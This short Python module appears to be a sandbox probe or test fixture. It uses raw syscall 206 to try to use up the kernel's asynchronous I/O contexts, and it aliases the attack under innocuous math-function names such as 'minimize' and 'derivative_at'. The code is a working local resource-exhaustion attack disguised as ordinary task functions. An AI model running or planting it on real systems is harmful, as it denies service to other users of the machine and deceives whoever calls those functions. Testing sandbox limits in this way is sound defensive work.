"""Use up the machine's requests for asynchronous reading and writing."""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)


def works(number, *arguments):
    """Make a system call by its number; say whether the kernel did it."""
    arguments = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    return libc.syscall(ctypes.c_long(number), *arguments) >= 0


def attack(*args, **kwargs):
    done = []
    for _ in range(100):
        context = ctypes.c_ulong()
        if works(206, 65536, ctypes.byref(context)):
            done.append(context.value)
    if done:
        raise RuntimeError(f"SUCCEEDED: {done}")
    return "refused"


derivative_at = accumulate_gradients = halving_chain = minimize = attack
